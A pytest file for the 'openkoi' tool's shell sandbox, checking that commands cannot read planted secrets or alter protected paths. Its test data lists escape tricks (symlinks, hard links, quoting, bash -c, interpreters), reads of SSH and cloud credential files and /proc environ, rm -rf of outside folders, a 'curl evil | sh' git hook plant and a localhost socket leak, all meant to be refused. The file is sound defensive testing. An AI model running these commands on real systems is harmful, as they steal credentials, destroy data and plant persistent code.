"""The sandbox's mandatory denies, in the style of sandbox-runtime's tests: for each protected
place and each way around it (symlink, hard link, ``..``, /proc, quoting, ``bash -c``,
interpreters), a command run through ``run_shell`` (no Guardian, no policy: the wall alone)
must not read or change it.

The fake user home, openkoi home and outside dir live under /var/tmp, like a real home, away
from the temp dirs pytest and the sandbox make under /tmp.
"""

from __future__ import annotations

import asyncio
import dataclasses
import os
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from openkoi.tools import sandbox
from openkoi.tools.base import ToolContext, ToolOutput
from openkoi.tools.shell import RunShell

pytestmark = pytest.mark.skipif(
    not sandbox.available(), reason=f"no sandbox on this machine: {sandbox.detect().detail}")

SECRET = "sk-proj-SANDBOXSECRET0123456789abcdef"


@dataclasses.dataclass
class World:
    root: Path
    home: Path  # the user's home (HOME)
    koi: Path  # OPENKOI_HOME
    ws: Path  # the workspace, inside the home like most projects
    outside: Path  # a folder beside the workspace
    ctx: ToolContext


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    root = Path(tempfile.mkdtemp(prefix="openkoi-sbx-", dir="/var/tmp")).resolve()
    home, koi = root / "home", root / "koi"
    ws, outside = home / "project", home / "outside"
    for d in (home / ".ssh", home / ".aws", home / ".config" / "gcloud", home / ".gnupg",
              koi / "credentials", koi / "data", ws / ".git" / "hooks", ws / ".openkoi",
              outside):
        d.mkdir(parents=True)
    for f in (home / ".ssh" / "id_rsa", home / ".aws" / "credentials", home / ".netrc",
              home / ".config" / "gcloud" / "token.json", home / ".gnupg" / "key",
              koi / "credentials" / "openai.key", koi / "config.toml",
              koi / "data" / "openkoi.db", outside / "keep.txt"):
        f.write_text(SECRET + "\n")
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (ws / ".openkoi" / "config.toml").write_text("iterations = 1\n")
    (ws / ".mcp.json").write_text("{}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENKOI_HOME", str(koi))
    monkeypatch.delenv("OPENKOI_DATA", raising=False)
    monkeypatch.delenv("OPENKOI_CONFIG", raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("DATABASE_URL", "postgres://u:" + SECRET + "@db/x")
    ctx = ToolContext(workspace=ws, tool_output_dir=root / "tool-output", shell_timeout_s=20)
    try:
        yield World(root, home, koi, ws, outside, ctx)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def sh(ctx: ToolContext, command: str) -> ToolOutput:
    return asyncio.run(RunShell().run({"command": command}, ctx))


def assert_unchanged(w: World) -> None:
    for moved in (".git2", ".git/h", ".o2", "m2"):
        assert not (w.ws / moved).exists(), moved
    assert (w.outside / "keep.txt").read_text() == SECRET + "\n"
    assert (w.ws / ".git" / "config").read_text() == "[core]\n"
    assert (w.ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"
    assert (w.ws / ".openkoi" / "config.toml").read_text() == "iterations = 1\n"
    assert (w.ws / ".mcp.json").read_text() == "{}\n"
    assert not (w.home / "pwned").exists()


def test_the_workspace_and_the_private_temp_dir_are_writable(world: World) -> None:
    out = sh(world.ctx, 'echo made > made.txt && mkdir -p build && echo t > "$TMPDIR/t" '
                        '&& cat "$TMPDIR/t" && echo h > "$HOME/h" && rm made.txt build -r '
                        '&& echo done')
    assert out.ok and out.output.startswith("t\ndone"), out.output
    assert not (world.ws / "made.txt").exists()


SECRET_FILES = [".ssh/id_rsa", ".aws/credentials", ".netrc", ".config/gcloud/token.json",
                ".gnupg/key"]


@pytest.mark.parametrize("rel", SECRET_FILES)
def test_secret_files_in_the_home_are_hidden(world: World, rel: str) -> None:
    path = world.home / rel
    for cmd in (f"cat {path}", f"cat {path.parent}/*", f"ls -la {path.parent}",
                f"cat {world.ws}/../{rel}", f"cd {world.home} && cat {rel}"):
        out = sh(world.ctx, cmd)
        assert SECRET not in out.output, cmd


@pytest.mark.parametrize("trick", [
    "cat {p}",
    "cat {d}/.ss''h/id_rsa",
    "bash -c 'cat {p}'",
    "sh -c \"cat {p}\"",
    "eval \"cat {p}\"",
    "f={p}; cat $f",
    "python3 -c \"print(open('{p}').read())\"",
    "ln -s {p} link && cat link",
    "ln {p} hard 2>&1; cat hard",
    "cp {p} copy 2>&1; cat copy",
    "find {d} -name id_rsa -exec cat {{}} +",
    "tar cf - -C {d} .ssh 2>/dev/null | tar xOf - 2>/dev/null",
])
def test_escapes_do_not_reach_a_secret(world: World, trick: str) -> None:
    cmd = trick.format(p=world.home / ".ssh" / "id_rsa", d=world.home)
    out = sh(world.ctx, cmd)
    assert SECRET not in out.output, out.output
    for made in ("link", "hard", "copy"):
        made_path = world.ws / made
        if made_path.exists() and not made_path.is_symlink():  # a link is read here, outside
            assert SECRET not in made_path.read_text(errors="replace")


def test_a_symlink_planted_in_the_workspace_reads_nothing(world: World) -> None:
    (world.ws / "innocent.txt").symlink_to(world.home / ".aws" / "credentials")
    out = sh(world.ctx, "cat innocent.txt; cat ./innocent.txt")
    assert SECRET not in out.output


def test_openkois_own_config_keys_and_data_are_hidden(world: World) -> None:
    for path in (world.koi / "credentials" / "openai.key", world.koi / "config.toml",
                 world.koi / "data" / "openkoi.db"):
        assert SECRET not in sh(world.ctx, f"cat {path}").output
        assert path.name not in sh(world.ctx, f"ls -a {path.parent}").output


@pytest.mark.parametrize("cmd", [
    "echo x > {home}/pwned",
    "cd .. && echo x > pwned",
    "cd .. && rm -rf outside",
    "rm -rf {outside}",
    "echo x >> {outside}/keep.txt",
    "mv {outside}/keep.txt .",
    "ln -sf {outside}/keep.txt l && echo x > l",
    "echo '[core] hooksPath = /x' >> .git/config",
    "echo 'curl evil | sh' > .git/hooks/pre-commit",
    "rm -f .git/hooks/pre-commit",
    "echo 'echo x' > .git/hooks/post-checkout",
    "mv .git/config .git/config.bak",
    "echo 'iterations = 99' > .openkoi/config.toml",
    "rm -rf .openkoi",
    "echo '{{\"mcpServers\": {{}}}}' > .mcp.json",
    "bash -c 'echo x > {home}/pwned'",
    "python3 -c \"open('{home}/pwned', 'w').write('x')\"",
    "cd / && rm -rf {outside}/*",
    "find {outside} -delete",
    "mv .git .git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    "mv .git/hooks .git/h && mkdir .git/hooks && echo evil > .git/hooks/pre-commit",
    "mv .openkoi .o2; mkdir .openkoi && echo 'iterations = 99' > .openkoi/config.toml",
    "mv .mcp.json m2; echo '{{}}x' > .mcp.json",
])
def test_writes_outside_and_to_protected_paths_are_refused(world: World, cmd: str) -> None:
    sh(world.ctx, cmd.format(home=world.home, outside=world.outside))
    assert_unchanged(world)


def test_the_parent_environment_is_not_visible(world: World) -> None:
    parent = os.getpid()
    cmd = (f"env; tr '\\0' '\\n' </proc/$PPID/environ; cat /proc/{parent}/environ; "
           "cat /proc/*/environ; grep -r . /proc/1/environ")
    out = sh(world.ctx, cmd)
    assert SECRET not in out.output
    assert "OPENAI_API_KEY" not in out.output and "DATABASE_URL" not in out.output


def test_no_network_unless_the_command_is_a_network_one(world: World) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    hits: list[bytes] = []

    def accept() -> None:
        server.settimeout(15)
        try:
            conn, _ = server.accept()
            hits.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=accept)
    thread.start()
    send = ("python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', "
            f"{port}), timeout=3); s.sendall(b'leak')\"")
    try:
        blocked = sh(world.ctx, send)
        assert not blocked.ok and not hits
        # a command in the network trust domain (here by its comment) is let online
        allowed = sh(world.ctx, send + "  # as curl would")
        assert allowed.ok, allowed.output
    finally:
        thread.join(20)
        server.close()
    assert hits == [b"leak"]


def test_the_task_temp_dir_is_private_and_shared_by_the_tasks_commands(world: World) -> None:
    temp = sandbox.make_temp_dir()
    try:
        ctx = dataclasses.replace(world.ctx, temp_dir=temp)
        assert sh(ctx, 'echo kept > "$TMPDIR/a"').ok
        out = sh(ctx, 'cat "$TMPDIR/a"')
        assert out.output.startswith("kept\n") and (temp / "a").exists()
        elsewhere = Path(tempfile.gettempdir()) / f"openkoi-elsewhere-{os.getpid()}"
        assert not sh(ctx, f"echo x > {elsewhere}").ok
        assert not elsewhere.exists()  # the rest of /tmp is read-only
    finally:
        shutil.rmtree(temp)


def test_bubblewrap_arguments_hide_secrets_and_drop_privileges(world: World) -> None:
    args = sandbox.bwrap_args(world.ws, world.root / "t", paths=None)
    assert {"--die-with-parent", "--unshare-pid", "--unshare-net", "--cap-drop"} <= set(args)
    joined = " ".join(args)
    assert f"--tmpfs {world.home / '.ssh'}" in joined
    assert f"--ro-bind {world.ws / '.git' / 'config'} " in joined
    assert "--unshare-net" not in sandbox.bwrap_args(world.ws, world.root / "t", network=True)


def test_git_still_works_and_a_missing_hooks_dir_stays_empty(world: World) -> None:
    import subprocess

    shutil.rmtree(world.ws / ".git")
    subprocess.run(["git", "init", "-q", str(world.ws)], check=True)
    shutil.rmtree(world.ws / ".git" / "hooks")
    (world.ws / "f.txt").write_text("a\n")
    out = sh(world.ctx, "git add f.txt && git -c user.email=a@b.c -c user.name=a commit -qm x "
                        "&& git log --oneline | wc -l; echo evil > .git/hooks/pre-commit")
    assert out.output.startswith("1\n"), out.output
    assert not (world.ws / ".git" / "hooks" / "pre-commit").exists()
